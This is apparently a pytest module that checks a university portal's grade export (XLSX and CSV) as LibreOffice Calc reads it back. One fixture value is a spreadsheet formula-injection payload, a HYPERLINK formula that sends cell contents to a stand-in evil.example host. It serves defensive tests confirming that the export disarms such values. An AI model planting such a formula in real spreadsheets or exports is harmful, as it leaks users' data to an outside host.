"""The exam-office export read back by another program: LibreOffice Calc (headless) opens the XLSX and the
CSV as the portal serves them; the cells it holds are read from its flat ODF output."""

from datetime import date

import pytest

from tests.factories import student_of

from .helpers import PARTICIPATION, PRESENTATION, REPORT, export_url, make_world, set_grade, three_components
from .libreoffice import EMPTY, Cell, needs_libreoffice, read_with_libreoffice

pytestmark = [pytest.mark.django_db, needs_libreoffice]

FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A2,"Mia")'
PHONE_NAME = "+49 151 2345678"
# LibreOffice's CSV filter options: separator, text delimiter, character set (76 = UTF-8), first line,
# column formats (column/format pairs, 2 = text), language (1031 = German, 1033 = English US).
CSV_GERMAN = "59,34,76,1,1/2,1031"
CSV_INTERNATIONAL = "44,34,76,1,1/2,1033"
CSV_GERMAN_GUESSING_TYPES = "59,34,76,1,,1031"


@pytest.fixture
def world():
    """Students whose names and numbers a spreadsheet program likes to change: a leading zero, a formula,
    a phone number, a minus and an at sign, umlauts; one with an incomplete grade, one failed."""
    world = make_world()
    seminar = world.seminar
    seminar.module_number = "IN2107"
    seminar.exam_date = date(2027, 2, 15)
    seminar.save()
    world.me.matriculation_number = "03612345"
    world.me.family_name = FORMULA_NAME
    world.me.given_name = PHONE_NAME
    world.me.save()
    world.other.family_name = "-x"
    world.other.given_name = "@y"
    world.other.save()
    umlaut = student_of(
        seminar,
        user__full_name="Jürgen von Groß-Müller",
        user__email="juergen@uni.example",
        user__matriculation_number="00012345",
    )
    set_grade(seminar, world.me, PRESENTATION, "1,3", grader=world.instructor)
    set_grade(seminar, world.me, REPORT, "2,0", grader=world.instructor)
    set_grade(seminar, world.other, PRESENTATION, "2,7", grader=world.instructor)
    set_grade(seminar, umlaut, PRESENTATION, "1,0", grader=world.instructor)
    set_grade(seminar, umlaut, REPORT, "5,0", grader=world.instructor)
    return world


@pytest.fixture
def instructor_client(client, world):
    client.force_login(world.instructor)
    return client


def download(client, world, file_format: str, decimal: str) -> bytes:
    response = client.get(export_url(world.seminar, file_format, decimal))
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def by_matriculation_number(rows: list[list[Cell]]) -> dict[str, list[Cell]]:
    return {row[0].shown: row for row in rows[1:]}


def string(text: str) -> Cell:
    return Cell("string", None, text)


def grade(value: str, shown: str) -> Cell:
    return Cell("float", value, shown)


@pytest.mark.parametrize(("decimal", "shown_date"), [("comma", "15.02.2027"), ("point", "2027-02-15")])
def test_export_xlsx_in_libreoffice_has_numbers_strings_and_a_date(
    instructor_client, world, tmp_path, decimal, shown_date
):
    data = download(instructor_client, world, "xlsx", decimal)

    rows = by_matriculation_number(read_with_libreoffice(data, "grades.xlsx", tmp_path))

    exam_day = Cell("date", "2027-02-15", shown_date)
    assert rows["03612345"] == [
        string("03612345"),
        string(FORMULA_NAME),
        string(PHONE_NAME),
        string("mia@uni.example"),
        string("IN2107"),
        exam_day,
        grade("1.3", "1.3"),
        grade("2", "2.0"),
        grade("1.5", "1.5"),
        string("sehr gut"),
        string("complete"),
    ]
    assert rows["03700002"] == [
        string("03700002"),
        string("-x"),
        string("@y"),
        string("otto@uni.example"),
        string("IN2107"),
        exam_day,
        grade("2.7", "2.7"),
        EMPTY,
        EMPTY,
        EMPTY,
        string("incomplete: no grade for Report"),
    ]
    assert rows["00012345"][1:3] == [string("von Groß-Müller"), string("Jürgen")]
    failed = [grade("1", "1.0"), grade("5", "5.0"), grade("5", "5.0"), string("nicht ausreichend")]
    assert rows["00012345"][6:10] == failed


@pytest.mark.parametrize(
    ("locale", "shown"), [("C.UTF-8", ["1.3", "2.0", "1.5"]), ("de_DE.UTF-8", ["1,3", "2,0", "1,5"])]
)
def test_export_xlsx_grades_show_the_decimal_mark_of_libreoffices_language(
    instructor_client, world, tmp_path, locale, shown
):
    data = download(instructor_client, world, "xlsx", "point")

    rows = by_matriculation_number(read_with_libreoffice(data, "grades.xlsx", tmp_path, locale=locale))

    assert [cell.shown for cell in rows["03612345"][6:9]] == shown
    assert [cell.value for cell in rows["03612345"][6:9]] == ["1.3", "2", "1.5"]


@pytest.mark.parametrize(("decimal", "csv_options"), [("comma", CSV_GERMAN), ("point", CSV_INTERNATIONAL)])
def test_export_csv_in_libreoffice_with_the_number_as_text_keeps_everything(
    instructor_client, world, tmp_path, decimal, csv_options
):
    data = download(instructor_client, world, "csv", decimal)

    all_rows = read_with_libreoffice(data, "grades.csv", tmp_path, csv_options=csv_options)
    rows = by_matriculation_number(all_rows)

    assert all_rows[0][:3] == [string("Matriculation number"), string("Family name"), string("Given name")]
    mia = rows["03612345"]
    assert mia[:3] == [string("03612345"), string("'" + FORMULA_NAME), string("'" + PHONE_NAME)]
    assert [(cell.type, cell.value) for cell in mia[5:9]] == [
        ("date", "2027-02-15"),
        ("float", "1.3"),
        ("float", "2"),
        ("float", "1.5"),
    ]
    otto = rows["03700002"]
    assert otto[1:3] == [string("'-x"), string("'@y")]
    assert (otto[6].value, otto[7:10], otto[10]) == (
        "2.7",
        [EMPTY] * 3,
        string("incomplete: no grade for Report"),
    )
    assert rows["00012345"][1:3] == [string("von Groß-Müller"), string("Jürgen")]
    assert all(cell.formula is None for row in all_rows for cell in row)


def test_export_csv_in_libreoffice_guessing_column_types_drops_leading_zeros(
    instructor_client, world, tmp_path
):
    """What the README warns of: opened without marking the number column as text, LibreOffice reads
    03612345 as the number 3612345. Grades and the date are still typed, the guarded names still texts."""
    data = download(instructor_client, world, "csv", "comma")

    rows = read_with_libreoffice(data, "grades.csv", tmp_path, csv_options=CSV_GERMAN_GUESSING_TYPES)

    mia = next(row for row in rows if row[2] == string("'" + PHONE_NAME))
    assert mia[0] == Cell("float", "3612345", "3612345")
    assert [(cell.type, cell.value) for cell in mia[5:9]] == [
        ("date", "2027-02-15"),
        ("float", "1.3"),
        ("float", "2"),
        ("float", "1.5"),
    ]
    assert Cell("float", "12345", "12345") in [row[0] for row in rows[1:]]
    assert all(cell.formula is None for row in rows for cell in row)


def typed(cells: list[Cell]) -> list[tuple[str | None, str | None]]:
    return [(cell.type, cell.value) for cell in cells]


@pytest.mark.parametrize(
    ("file_format", "csv_options"), [("xlsx", None), ("csv", CSV_GERMAN), ("csv", CSV_INTERNATIONAL)]
)
def test_export_with_three_components_in_libreoffice_has_a_number_column_for_each(
    instructor_client, world, tmp_path, file_format, csv_options
):
    three_components(world.seminar)
    set_grade(world.seminar, world.me, PARTICIPATION, "3,7", grader=world.instructor)
    decimal = "point" if csv_options == CSV_INTERNATIONAL else "comma"
    data = download(instructor_client, world, file_format, decimal)

    all_rows = read_with_libreoffice(data, f"grades.{file_format}", tmp_path, csv_options=csv_options)
    rows = by_matriculation_number(all_rows)

    titles = [cell.shown for cell in all_rows[0][6:]]
    assert titles == ["Presentation", "Report", "Participation", "Final grade", "Band", "Status"]
    # 0.5 x 1.3 + 0.3 x 2.0 + 0.2 x 3.7 = 1.99, cut to 1.9
    assert typed(rows["03612345"][6:]) == [
        ("float", "1.3"),
        ("float", "2"),
        ("float", "3.7"),
        ("float", "1.9"),
        ("string", None),
        ("string", None),
    ]
    assert [cell.shown for cell in rows["03612345"][10:]] == ["gut", "complete"]
    assert typed(rows["03700002"][6:10]) == [("float", "2.7"), (None, None), (None, None), (None, None)]
    assert rows["03700002"][11] == string("incomplete: no grade for Report, Participation")
    assert typed(rows["00012345"][6:10]) == [("float", "1"), ("float", "5"), (None, None), (None, None)]
    assert all(cell.formula is None for row in all_rows for cell in row)
